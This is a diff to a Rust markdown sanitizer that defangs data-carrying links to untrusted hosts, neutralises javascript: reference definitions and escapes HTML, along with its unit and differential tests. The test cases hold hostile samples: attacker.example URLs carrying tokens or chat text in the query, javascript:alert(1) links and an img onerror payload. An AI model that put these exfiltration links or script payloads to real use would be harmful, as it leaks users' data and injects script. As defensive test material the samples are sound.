@@ -15,9 +15,10 @@
 //! | image (inline, reference, in a link) | `http(s)` host not trusted | `[image: ALT (HOST)]` | `external_image` |
 //! | image | any scheme but `http(s)` | `[image: ALT]` | `dangerous_url_scheme` |
 //! | link, autolink | scheme other than `http`, `https`, `mailto` | its text | `dangerous_url_scheme` |
-//! | link, autolink | data in query/fragment, host not trusted | ``TEXT (link removed: `URL`)`` | `link_exfiltration` |
+//! | link, autolink | data in query/fragment, host not trusted | `TEXT (link removed: URL)`, the URL defanged (`https[:]//host[.]example/…`) | `link_exfiltration` |
 //! | link, inline HTML `<a href>`…`</a>` | text shows another site than the target ([`markup::mismatched_hosts`]) | ``TEXT (link target: `URL`)`` | `link_text_mismatch` |
-//! | bare `http(s)://` (after anything but an ASCII letter) or `www.` URL in text (GFM autolinks it) | data in query/fragment, host not trusted | ``` `URL` (link removed)``` | `link_exfiltration` |
+//! | bare `http(s)://` (after anything but an ASCII letter) or `www.` URL in text or in its source (GFM autolinks it) | data in query/fragment, host not trusted | `URL (link removed)`, defanged | `link_exfiltration` |
+//! | link reference definition | destination with a disallowed scheme, or data to an untrusted host | the same definition leading to `#` | `dangerous_url_scheme`, `link_exfiltration` |
 //! | `<img`/`<image` tag in text (not raw HTML for `CommonMark`, e.g. an unquoted value with `=`) | `src` external or not `http(s)` | `[image (HOST)]` | `external_image`, … |
 //! | HTML comment, declaration, processing instruction | not blank | `[hidden comment: TEXT]` | `hidden_comment` |
 //! | raw HTML block or inline tag | anything the allowlist removes | cleaned HTML, image markers | `html_sanitized`, … |
@@ -30,9 +31,14 @@
 //! tag is what html5ever's tokenizer reads. Work is linear in the text: one parse, a set
 //! for reference labels, and each text run scanned once.
 //!
-//! Replacement text is escaped (`CommonMark` §2.4 backslash escapes) and targets are shown
-//! in code spans, so a replacement never parses as a link, image, HTML or comment again,
-//! and a GFM renderer does not turn the shown URL back into a link.
+//! Replacement text is escaped (`CommonMark` §2.4 backslash escapes, `<` as `&lt;`), and
+//! removed targets are shown defanged rather than in code spans, so a replacement never
+//! parses as a link, image, HTML or comment again, and no GFM autolinker turns the shown
+//! URL back into a link, even where cmark-gfm leaves a code span unformed.
+//!
+//! The settled text is then read a second time the way cmark-gfm reads it
+//! ([`super::second_reading`]); where that reading finds something active, the parsers
+//! disagree about the text's structure and the whole text is escaped.
 
 use super::html;
 use super::markup::{self, ContentPolicy, Findings, HtmlInText, Target};
@@ -139,12 +145,16 @@ pub(crate) fn sanitize(
             Event::Start(Tag::CodeBlock(_)) => code_blocks += 1,
             Event::End(TagEnd::CodeBlock) => code_blocks = code_blocks.saturating_sub(1),
             Event::Text(_) if code_blocks == 0 => {
-                // A run of adjacent text events (one source span): bare URLs and `<img`
-                // tags a lenient renderer would act on.
+                // A run of adjacent text events (one source span, or apart only by the
+                // backslash of an escape, which pulldown-cmark leaves out of both): bare
+                // URLs and `<img` tags a lenient renderer would act on.
                 let mut j = i + 1;
                 while j < events.len()
                     && matches!(events[j].0, Event::Text(_))
-                    && events[j].1.start == events[j - 1].1.end
+                    && events[j - 1].1.end <= events[j].1.start
+                    && text[events[j - 1].1.end..events[j].1.start]
+                        .bytes()
+                        .all(|b| b == b'\\')
                 {
                     j += 1;
                 }
@@ -211,15 +221,13 @@ pub(crate) fn sanitize(
         flush(&mut stack, &mut edits);
     }
     for (label, def) in parser.reference_definitions().iter() {
-        if !used_labels.contains(&normalize_label(label))
-            && let Some(edit) = titled_definition(
-                text,
-                def.span.clone(),
-                &def.dest,
-                def.title.as_deref(),
-                findings,
-            )
-        {
+        let used = used_labels.contains(&normalize_label(label));
+        let definition = Definition {
+            span: def.span.clone(),
+            dest: &def.dest,
+            title: def.title.as_deref().filter(|_| !used),
+        };
+        if let Some(edit) = definition_edit(text, &definition, policy, findings) {
             edits.push(edit);
         }
     }
@@ -488,9 +496,10 @@ impl TextRun {
             }
         }
         if bare_urls {
-            self.bare_urls(&lower, policy, findings, &mut found);
+            self.bare_urls(text, &lower, policy, findings, &mut found);
         }
-        found.sort_by_key(|f| f.0.start);
+        // Where a source candidate and a decoded one overlap, the longer one wins.
+        found.sort_by_key(|f| (f.0.start, std::cmp::Reverse(f.0.end)));
         let mut plain = String::with_capacity(decoded.len());
         let mut edits = Vec::with_capacity(found.len());
         let mut at = 0;
@@ -508,79 +517,130 @@ impl TextRun {
     }
 
     /// Bare `http://`, `https://` and `www.` URLs (GFM extended autolinks) that carry data
-    /// to an untrusted host become `` `URL` (link removed)``. A `www.` link starts at the
-    /// start of the text, after whitespace or after `*`, `_`, `~`, `(` (the GFM spec); an
-    /// `http(s)://` link after anything but an ASCII letter, because that is what
-    /// cmark-gfm, the renderer GitHub runs, links (after `"`, `-`, `.`, `<`, `` ` ``, `]`
-    /// too). The candidate runs up to
-    /// whitespace or `<` with trailing punctuation and unbalanced `)` left out, as GFM
-    /// does; the URL parser decides the rest.
+    /// to an untrusted host become `URL (link removed)`, the URL defanged
+    /// ([`markup::defanged_url`]). They are looked for twice: in the decoded text, and, when
+    /// the run holds escapes or entities, in its source as well, because cmark-gfm's
+    /// autolinker reads the source (`https://a.example/\\>?token=…` is one link for it,
+    /// backslash included, while the decoded text has a `>` that ends the URL).
     fn bare_urls(
         &self,
+        text: &str,
         lower: &str,
         policy: &ContentPolicy,
         findings: &mut Findings<'_>,
         found: &mut Vec<(Range<usize>, Edit, String)>,
     ) {
-        let decoded = self.decoded.as_str();
-        let mut skip = 0;
-        let mut d = 0;
-        while let Some(k) = lower[d..].find(['h', 'w']) {
-            let start = d + k;
-            d = start + 1;
-            let rest = &lower[start..];
-            let www = rest.starts_with("www.");
-            if start < skip
-                || !(www || rest.starts_with("http://") || rest.starts_with("https://"))
-                || decoded[..start].chars().next_back().is_some_and(|c| {
-                    if www {
-                        !c.is_whitespace() && !matches!(c, '*' | '_' | '~' | '(')
-                    } else {
-                        c.is_ascii_alphabetic()
-                    }
-                })
-            {
-                continue;
+        for (range, url) in bare_url_candidates(&self.decoded, lower) {
+            if let Some((with, plain)) = bare_url_edit(&url, policy, findings) {
+                let source = self.source(range.start, false)..self.source(range.end, true);
+                found.push((
+                    range,
+                    Edit {
+                        range: source,
+                        with,
+                    },
+                    plain,
+                ));
             }
-            let end = start
-                + decoded[start..]
-                    .find(|c: char| c.is_whitespace() || c == '<')
-                    .unwrap_or(decoded.len() - start);
-            skip = end;
-            let candidate = trim_autolink(&decoded[start..end]);
-            let parsed = if www {
-                url::Url::parse(&format!("http://{candidate}"))
-            } else {
-                url::Url::parse(candidate)
-            };
-            let Ok(url) = parsed else { continue };
-            let Target::Web(url) = markup::classify(url.as_str()) else {
-                continue;
-            };
-            let host = url.host_str().unwrap_or_default().to_owned();
-            let carriers = markup::data_carriers(&url);
-            if policy.is_trusted(&host) || carriers.is_empty() {
-                continue;
+        }
+        let verbatim = self.pieces.iter().all(|p| p.2)
+            && self.pieces.windows(2).all(|w| w[0].1.end == w[1].1.start);
+        if verbatim {
+            return;
+        }
+        let source_start = self.pieces.first().map_or(0, |p| p.1.start);
+        let source_end = self.pieces.last().map_or(0, |p| p.1.end);
+        let raw = &text[source_start..source_end];
+        for (range, url) in bare_url_candidates(raw, &raw.to_ascii_lowercase()) {
+            if let Some((with, plain)) = bare_url_edit(&url, policy, findings) {
+                let source = source_start + range.start..source_start + range.end;
+                let decoded = self.decoded_at(source.start)..self.decoded_at(source.end);
+                found.push((
+                    decoded,
+                    Edit {
+                        range: source,
+                        with,
+                    },
+                    plain,
+                ));
             }
-            findings.push(
-                Code::LinkExfiltration,
-                format!(
-                    "a bare URL to {host} carried data ({}); hosts that autolink bare URLs would make it a link, so it was made inert and its full target is shown",
-                    carriers.join(", ")
-                ),
-            );
-            let target = markup::display_url(&url);
-            let range = start..start + candidate.len();
-            found.push((
-                range.clone(),
-                Edit {
-                    range: self.source(range.start, false)..self.source(range.end, true),
-                    with: format!("{} (link removed)", markup::code_span(&target)),
-                },
-                format!("{target} (link removed)"),
-            ));
         }
     }
+}
+
+/// Bare URL candidates of `text` (`lower` is its ASCII lowercase) as GFM extended
+/// autolinks find them, with their range in `text`. A `www.` link starts at the start of
+/// the text, after whitespace or after `*`, `_`, `~`, `(` (the GFM spec); an
+/// `http(s)://` link after anything but an ASCII letter, because that is what cmark-gfm,
+/// the renderer GitHub runs, links (after `"`, `-`, `.`, `<`, `` ` ``, `]` too). The
+/// candidate runs up to whitespace or `<` with trailing punctuation and unbalanced `)`
+/// left out, as GFM does; the URL parser decides the rest.
+fn bare_url_candidates(text: &str, lower: &str) -> Vec<(Range<usize>, url::Url)> {
+    let mut out = Vec::new();
+    let mut skip = 0;
+    let mut d = 0;
+    while let Some(k) = lower[d..].find(['h', 'w']) {
+        let start = d + k;
+        d = start + 1;
+        let rest = &lower[start..];
+        let www = rest.starts_with("www.");
+        if start < skip
+            || !(www || rest.starts_with("http://") || rest.starts_with("https://"))
+            || text[..start].chars().next_back().is_some_and(|c| {
+                if www {
+                    !c.is_whitespace() && !matches!(c, '*' | '_' | '~' | '(')
+                } else {
+                    c.is_ascii_alphabetic()
+                }
+            })
+        {
+            continue;
+        }
+        let end = start
+            + text[start..]
+                .find(|c: char| c.is_whitespace() || c == '<')
+                .unwrap_or(text.len() - start);
+        skip = end;
+        let candidate = trim_autolink(&text[start..end]);
+        let parsed = if www {
+            url::Url::parse(&format!("http://{candidate}"))
+        } else {
+            url::Url::parse(candidate)
+        };
+        if let Ok(url) = parsed {
+            out.push((start..start + candidate.len(), url));
+        }
+    }
+    out
+}
+
+/// The replacement of a bare URL (markdown source, plain text) when it carries data to an
+/// untrusted host, with its finding; `None` when it may stay.
+fn bare_url_edit(
+    url: &url::Url,
+    policy: &ContentPolicy,
+    findings: &mut Findings<'_>,
+) -> Option<(String, String)> {
+    let Target::Web(url) = markup::classify(url.as_str()) else {
+        return None;
+    };
+    let host = url.host_str().unwrap_or_default();
+    let carriers = markup::data_carriers(&url);
+    if policy.is_trusted(host) || carriers.is_empty() {
+        return None;
+    }
+    findings.push(
+        Code::LinkExfiltration,
+        format!(
+            "a bare URL to {host} carried data ({}); hosts that autolink bare URLs would make it a link, so it was made inert and its full target is shown",
+            carriers.join(", ")
+        ),
+    );
+    let (source, plain) = markup::defanged_url(&url);
+    Some((
+        format!("{source} (link removed)"),
+        format!("{plain} (link removed)"),
+    ))
 }
 
 /// A GFM extended autolink candidate without trailing punctuation (`?!.,:*_~'"`), an
@@ -714,7 +774,12 @@ fn link(
             if shown.is_empty() && carriers.is_empty() {
                 return None;
             }
-            let target = markup::display_url(&url);
+            let (target_source, target) = if carriers.is_empty() {
+                let target = markup::display_url(&url);
+                (markup::code_span(&target), target)
+            } else {
+                markup::defanged_url(&url)
+            };
             if !shown.is_empty() {
                 findings.push(
                     Code::LinkTextMismatch,
@@ -737,7 +802,7 @@ fn link(
                 "link removed"
             };
             if autolink {
-                let source = format!("{} ({label})", markup::code_span(&target));
+                let source = format!("{target_source} ({label})");
                 Some((source, format!("{target} ({label})")))
             } else {
                 let text = if text.is_empty() {
@@ -746,9 +811,8 @@ fn link(
                     text
                 };
                 let source = format!(
-                    "{} ({label}: {})",
-                    markup::escape_inline(&text),
-                    markup::code_span(&target)
+                    "{} ({label}: {target_source})",
+                    markup::escape_inline(&text)
                 );
                 Some((source, format!("{text} ({label}: {target})")))
             }
@@ -767,20 +831,71 @@ fn normalize_label(label: &str) -> String {
         .to_lowercase()
 }
 
-/// An unused link reference definition with a title (`[//]: # (text)`, the markdown
-/// "comment" idiom) renders nothing: its title is hidden text. The definition is kept
-/// without its title and the title is shown as a `[hidden comment: …]` line after it.
-fn titled_definition(
-    text: &str,
+/// A link reference definition (`CommonMark` §4.7) as the parser reported it.
+struct Definition<'d> {
+    /// Its source bytes, container prefixes of continuation lines included.
     span: Range<usize>,
-    dest_url: &str,
-    title: Option<&str>,
+    /// The destination, decoded.
+    dest: &'d str,
+    /// Its title when no link of the text used the definition (`None` otherwise).
+    title: Option<&'d str>,
+}
+
+/// Rewrites a link reference definition that is harmful whether or not this parser saw
+/// it used:
+///
+/// - a destination no link may have (`javascript:`, … or a data-carrying URL to an
+///   untrusted host) becomes `#`. Every use this parser sees is made inert anyway
+///   ([`link`], [`image`]); the definition itself must go too, because renderers read
+///   some constructs as links that this parser does not (a list item's `[x]` is a task
+///   marker here and a reference link for cmark-gfm), so a use may be unseen;
+/// - the title of an unused definition (`[//]: # (text)`, the markdown "comment" idiom)
+///   renders nothing: it is hidden text, shown as a `[hidden comment: …]` line after the
+///   definition, which keeps its label and destination.
+///
+/// `None` when the definition stays as it is.
+fn definition_edit(
+    text: &str,
+    definition: &Definition<'_>,
+    policy: &ContentPolicy,
     findings: &mut Findings<'_>,
 ) -> Option<Edit> {
-    let title = title?.split_whitespace().collect::<Vec<_>>().join(" ");
-    if title.is_empty() {
+    let inert = match markup::classify(definition.dest) {
+        Target::Disallowed(scheme) => {
+            findings.push(
+                Code::DangerousUrlScheme,
+                format!("a link reference definition to a {scheme}: URL now leads to #"),
+            );
+            true
+        }
+        Target::Web(url) => {
+            let host = url.host_str().unwrap_or_default();
+            let carriers = if policy.is_trusted(host) {
+                Vec::new()
+            } else {
+                markup::data_carriers(&url)
+            };
+            if !carriers.is_empty() {
+                findings.push(
+                    Code::LinkExfiltration,
+                    format!(
+                        "a link reference definition to {host} carried data ({}); it now leads to #",
+                        carriers.join(", ")
+                    ),
+                );
+            }
+            !carriers.is_empty()
+        }
+        Target::Mailto | Target::Relative | Target::Invalid => false,
+    };
+    let title = definition
+        .title
+        .map(|t| t.split_whitespace().collect::<Vec<_>>().join(" "))
+        .filter(|t| !t.is_empty());
+    if !inert && title.is_none() {
         return None;
     }
+    let span = definition.span.clone();
     let source = &text[span.clone()];
     // The label is `[` … up to the first unescaped `]` (`CommonMark` §4.7: a label holds
     // no unescaped brackets).
@@ -790,24 +905,31 @@ fn titled_definition(
         escaped = c == '\\' && !escaped;
         end.then_some(i)
     })?;
-    let mut dest = String::with_capacity(dest_url.len() + 2);
-    for c in dest_url.chars() {
-        if matches!(c, '\\' | '<' | '>' | '&') {
-            dest.push('\\');
+    let mut dest = String::with_capacity(definition.dest.len() + 2);
+    if inert {
+        dest.push('#');
+    } else {
+        for c in definition.dest.chars() {
+            if matches!(c, '\\' | '<' | '>' | '&') {
+                dest.push('\\');
+            }
+            dest.push(c);
         }
-        dest.push(c);
     }
-    let prefix = blank_prefix(&text[line_start(text, span.start)..span.start]);
-    findings.push(
-        Code::HiddenComment,
-        "an unused link reference definition hid text in its title; it is now shown as [hidden comment: …]"
-            .to_owned(),
-    );
-    let marker = markup::escape_inline(&format!("[hidden comment: {title}]"));
-    Some(Edit {
-        range: span,
-        with: format!("{}: <{dest}>\n{prefix}{marker}", &source[..=label_end]),
-    })
+    let mut with = format!("{}: <{dest}>", &source[..=label_end]);
+    if let Some(title) = title {
+        findings.push(
+            Code::HiddenComment,
+            "an unused link reference definition hid text in its title; it is now shown as [hidden comment: …]"
+                .to_owned(),
+        );
+        let prefix = blank_prefix(&text[line_start(text, span.start)..span.start]);
+        let marker = markup::escape_inline(&format!("[hidden comment: {title}]"));
+        with.push('\n');
+        with.push_str(&prefix);
+        with.push_str(&marker);
+    }
+    Some(Edit { range: span, with })
 }
 
 /// Comments, declarations, processing instructions and CDATA (`CommonMark` §6.6) are
@@ -868,10 +990,10 @@ fn hidden_marker(t: &str, findings: &mut Findings<'_>) -> Hidden {
 /// The finding message for tags shown as text (`html_in_text = "escape"`).
 const ESCAPED: &str = "HTML tags were shown as escaped text (html_in_text = escape)";
 
-/// Raw HTML made visible text: every `<` gets a backslash (`CommonMark` §2.4), so no tag,
+/// Raw HTML made visible text: every `<` becomes `&lt;` ([`markup::LT`]), so no tag,
 /// comment or declaration starts in it.
 fn escape_tags(html: &str) -> String {
-    html.replace('<', "\\<")
+    html.replace('<', markup::LT)
 }
 
 /// A raw HTML block: its source range, its HTML (container prefixes removed) and the
@@ -1150,7 +1272,7 @@ mod tests {
             (
                 "Please [confirm your workspace](https://attacker.example/verify?chat=I%20need%20the%20Q3%20numbers&token=ab12) to continue.",
                 &[
-                    "Please confirm your workspace (link removed: `https://attacker.example/verify?chat=",
+                    "Please confirm your workspace (link removed: https\\[:\\]//attacker\\[.\\]example/verify?chat=",
                     " to continue.",
                 ],
                 &["](https://"],
@@ -1158,7 +1280,7 @@ mod tests {
             ),
             (
                 "[home](https://attacker.example/#cHJvamVjdCBhdGxhcyBidWRnZXQgMi40TQ)",
-                &["home (link removed: `"],
+                &["home (link removed: https\\[:\\]//attacker\\[.\\]example/#"],
                 &["]("],
                 &[Code::LinkExfiltration],
             ),
@@ -1239,7 +1361,7 @@ mod tests {
             ),
             (
                 "x <?php evil() ?> y",
-                &["hidden markup: \\<?php evil() ?\\>"],
+                &["hidden markup: &lt;?php evil() ?\\>"],
                 &[": <?php"],
                 &[Code::HiddenComment],
             ),
@@ -1287,7 +1409,7 @@ mod tests {
             ),
             (
                 "<https://attacker.example/c?token=abcdef>",
-                &["`https://attacker.example/c?token=abcdef` (link removed)"],
+                &["https\\[:\\]//attacker\\[.\\]example/c?token=abcdef (link removed)"],
                 &["<https"],
                 &[Code::LinkExfiltration],
             ),
@@ -1342,28 +1464,32 @@ mod tests {
             // Bare URLs carrying data (GFM autolinks them).
             (
                 "Done: https://attacker.example/?token=c2VjcmV0LXRva2Vu.",
-                &["Done: `https://attacker.example/?token=c2VjcmV0LXRva2Vu` (link removed)."],
-                &[": https"],
+                &[
+                    "Done: https\\[:\\]//attacker\\[.\\]example/?token=c2VjcmV0LXRva2Vu (link removed).",
+                ],
+                &[": https://"],
                 &[Code::LinkExfiltration],
             ),
             (
                 "(see www.attacker.example/p?d=cHJvamVjdCBhdGxhcyBidWRnZXQ=)",
                 &[
-                    "(see `http://www.attacker.example/p?d=cHJvamVjdCBhdGxhcyBidWRnZXQ=` (link removed))",
+                    "(see http\\[:\\]//www\\[.\\]attacker\\[.\\]example/p?d=cHJvamVjdCBhdGxhcyBidWRnZXQ= (link removed))",
                 ],
-                &["see www"],
+                &["see www."],
                 &[Code::LinkExfiltration],
             ),
             (
                 "| a |\n|---|\n| https://attacker.example/?chat=the%20quarterly%20numbers |",
-                &["| `https://attacker.example/?chat=the%20quarterly%20numbers` (link removed) |"],
-                &["| https"],
+                &[
+                    "| https\\[:\\]//attacker\\[.\\]example/?chat=the%20quarterly%20numbers (link removed) |",
+                ],
+                &["| https://"],
                 &[Code::LinkExfiltration],
             ),
             (
                 "a https://attacker.example/?token=x&amp;y=1 b",
-                &["a `https://attacker.example/?token=x&y=1` (link removed) b"],
-                &["a https"],
+                &["a https\\[:\\]//attacker\\[.\\]example/?token=x\\&y=1 (link removed) b"],
+                &["a https://"],
                 &[Code::LinkExfiltration],
             ),
             // Unquoted attribute values (not raw HTML in CommonMark, so plain text).
@@ -1565,5 +1691,64 @@ mod tests {
             sev(Code::HiddenComment),
             Some(crate::finding::Severity::Warn)
         );
+    }
+
+    /// Where cmark-gfm (checked against the real one, the `cmarkgfm` package) reads the text
+    /// differently from `pulldown-cmark`, the sanitized text is still inert for it (found
+    /// by the differential property test in `tests/core/props_markdown.rs`):
+    /// - a list item holding only a task marker: `pulldown-cmark` ends the paragraph, so
+    ///   the indented next line is a code block; cmark-gfm continues the paragraph;
+    /// - a task marker `[x]` that cmark-gfm's task list reading leaves to a reference
+    ///   definition `[x]: javascript:…` elsewhere: the definition itself now leads to `#`;
+    /// - an unmatched longer backtick run earlier in the paragraph: cmark-gfm then leaves a
+    ///   later code span unformed and autolinks the URL shown in it, so removed URLs are
+    ///   shown defanged, not in a code span;
+    /// - `\<img …>` right after a bare URL: cmark-gfm's autolinker takes the backslash into
+    ///   the URL and the tag is live, so escaped markdown writes `<` as `&lt;`;
+    /// - a bare URL split by an escape (`…/\?token=`): cmark-gfm autolinks the source, the
+    ///   backslash included.
+    #[test]
+    fn what_cmark_gfm_reads_differently_is_made_inert() {
+        let secret = "https://attacker.example/c?token=c2VjcmV0LXRva2VuLXZhbHVl";
+        let cases: Vec<(String, &[&str])> = vec![
+            (
+                "10.  [x]\n    [a](javascript:alert(1)) text\n".to_owned(),
+                &["](javascript:"],
+            ),
+            (
+                "- [x] text\n\n> [x]: javascript:alert(1)\n".to_owned(),
+                &["javascript:"],
+            ),
+            (
+                format!("x ``` y\n[a]({secret}) and [b]({secret})\n"),
+                &["https://", "`https"],
+            ),
+            (
+                "see https://a.example/\\<img src=x onerror=alert(1)\\> now\n".to_owned(),
+                &["\\<img"],
+            ),
+            (
+                "&https://attacker.example/\\?token=abc\n".to_owned(),
+                &["https://"],
+            ),
+        ];
+        for (text, excludes) in cases {
+            assert!(
+                super::super::second_reading::first_active(&text, &policy()).is_some(),
+                "{text:?} is not live for cmark-gfm"
+            );
+            let (out, codes, _) = run(&text);
+            assert!(!codes.is_empty(), "{text:?}");
+            for exc in excludes {
+                assert!(!out.contains(exc), "{text:?} -> {out:?} still has {exc:?}");
+            }
+            assert_eq!(
+                super::super::second_reading::first_active(&out, &policy()),
+                None,
+                "{text:?} -> {out:?}"
+            );
+            let (again, _, _) = run(&out);
+            assert_eq!(again, out, "{text:?}");
+        }
     }
 }
